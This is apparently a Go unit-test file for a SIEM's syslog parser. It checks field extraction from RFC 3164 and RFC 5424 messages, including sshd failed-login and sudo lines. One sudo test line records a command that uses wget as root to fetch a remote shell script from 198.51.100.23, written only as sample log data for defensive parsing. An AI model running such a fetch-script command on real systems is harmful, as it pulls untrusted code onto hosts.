package syslog

import (
	"testing"
	"time"

	"github.com/vigil-siem/vigil/collectors/parsers"
	"github.com/vigil-siem/vigil/event"
)

type f = map[string]any

func TestParseShapes(t *testing.T) {
	cases := []struct {
		name   string
		line   string
		want   f
		absent []string
	}{
		{
			name: "RFC 3164 with PRI",
			line: "<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8",
			want: f{"@timestamp": "2025-10-11T22:14:15.000Z", "log.syslog.priority": int64(34), "log.syslog.facility.code": int64(4),
				"log.syslog.severity.code": int64(2), "log.syslog.facility.name": "auth", "log.syslog.severity.name": "crit",
				"host.hostname": "mymachine", "process.name": "su", "message": "'su root' failed for lonvick on /dev/pts/8",
				"event.dataset": "syslog", "event.kind": "event"},
			absent: []string{"log.syslog.version", "process.pid", FieldWarning},
		},
		{
			name: "RFC 3164 sshd failure gets the auth mapping",
			line: "<38>Dec 10 06:55:46 web-01 sshd[24200]: Failed password for invalid user admin from 203.0.113.45 port 5022 ssh2",
			want: f{"event.dataset": "system.auth", "event.module": "system", "event.action": "ssh_login", "event.outcome": "failure",
				"user.name": "admin", "source.ip": "203.0.113.45", "source.port": int64(5022), "process.pid": int64(24200),
				"event.category": []any{"authentication"}, "related.ip": []any{"203.0.113.45"}},
		},
		{
			name: "RFC 3164 sudo",
			line: "<85>Dec 10 09:54:47 web-01 sudo[901]: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/wget -q http://198.51.100.23/x.sh",
			want: f{"event.dataset": "system.auth", "event.action": "sudo", "user.name": "deploy", "user.effective.name": "root",
				"process.command_line": "/usr/bin/wget -q http://198.51.100.23/x.sh"},
		},
		{
			name: "RFC 5424 with structured data",
			line: `<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog 42 ID47 [exampleSDID@32473 iut="3" eventSource="Application"][examplePriority@32473 class="high"] An application event`,
			want: f{"@timestamp": "2003-10-11T22:14:15.003Z", "log.syslog.version": "1", "log.syslog.appname": "evntslog", "process.pid": int64(42),
				"log.syslog.msgid": "ID47", "log.syslog.hostname": "mymachine.example.com", "message": "An application event",
				"log.syslog.structured_data": map[string]any{"exampleSDID@32473": map[string]any{"iut": "3", "eventSource": "Application"},
					"examplePriority@32473": map[string]any{"class": "high"}}},
		},
		{
			name: "RFC 5424 with @cee",
			line: `<134>1 2018-03-24T08:59:37-07:00 PC-helen.jerry.land EvntSLog - - - @cee: {"source": "PC-helen", "msg": "The service entered the stopped state.", "id": "7036", "event.x": "y"}`,
			want: f{"@timestamp": "2018-03-24T15:59:37.000Z", "message": "The service entered the stopped state.", "labels.cee_id": "7036",
				"labels.cee_source": "PC-helen", "labels.cee_event_x": "y", "log.syslog.severity.name": "info"},
			absent: []string{"log.syslog.procid", "log.syslog.msgid", "log.syslog.structured_data"},
		},
		{
			name: "RFC 5424 with broken @cee",
			line: `<134>1 2018-03-24T08:59:37Z h app - - - @cee: {"msg": `,
			want: f{"event.kind": "event", "message": `@cee: {"msg": `, FieldWarning: `@cee payload is not a JSON object: unexpected end of JSON input`},
		},
		{name: "empty", line: "", want: f{"event.kind": parsers.KindPipelineError, "vigil.parse_error": "not a syslog message: empty"}},
		{name: "garbage", line: "hello world", want: f{"event.kind": parsers.KindPipelineError}},
		{name: "bad PRI", line: "<999>Oct 11 22:14:15 h x: y", want: f{"event.kind": parsers.KindPipelineError}},
	}
	for _, c := range cases {
		p := New(Config{Reference: time.Date(2025, 12, 31, 0, 0, 0, 0, time.UTC)})
		e := p.Parse(parsers.Source{Name: "syslog:udp:10.0.0.1", Offset: 0}, []byte(c.line))
		if e.ID() != event.MakeID("syslog:udp:10.0.0.1", 0, []byte(c.line)) || e[event.FieldOriginal] != c.line {
			t.Errorf("%s: id or event.original wrong", c.name)
		}
		for k, v := range c.want {
			if event.Stringify(e[k]) != event.Stringify(v) {
				t.Errorf("%s: %s = %#v, want %#v", c.name, k, e[k], v)
			}
		}
		for _, k := range c.absent {
			if _, ok := e[k]; ok {
				t.Errorf("%s: %s = %#v, want absent", c.name, k, e[k])
			}
		}
	}
}

// TestYearOfRFC3164 checks that a December message read early in January
// belongs to the year before.
func TestYearOfRFC3164(t *testing.T) {
	p := New(Config{Reference: time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC)})
	for line, want := range map[string]string{
		"<13>Dec 31 23:59:00 h app: x": "2025-12-31T23:59:00.000Z",
		"<13>Jan  1 00:01:00 h app: x": "2026-01-01T00:01:00.000Z",
	} {
		if got := p.Parse(parsers.Source{}, []byte(line))["@timestamp"]; got != want {
			t.Errorf("%q: @timestamp = %v, want %s", line, got, want)
		}
	}
}
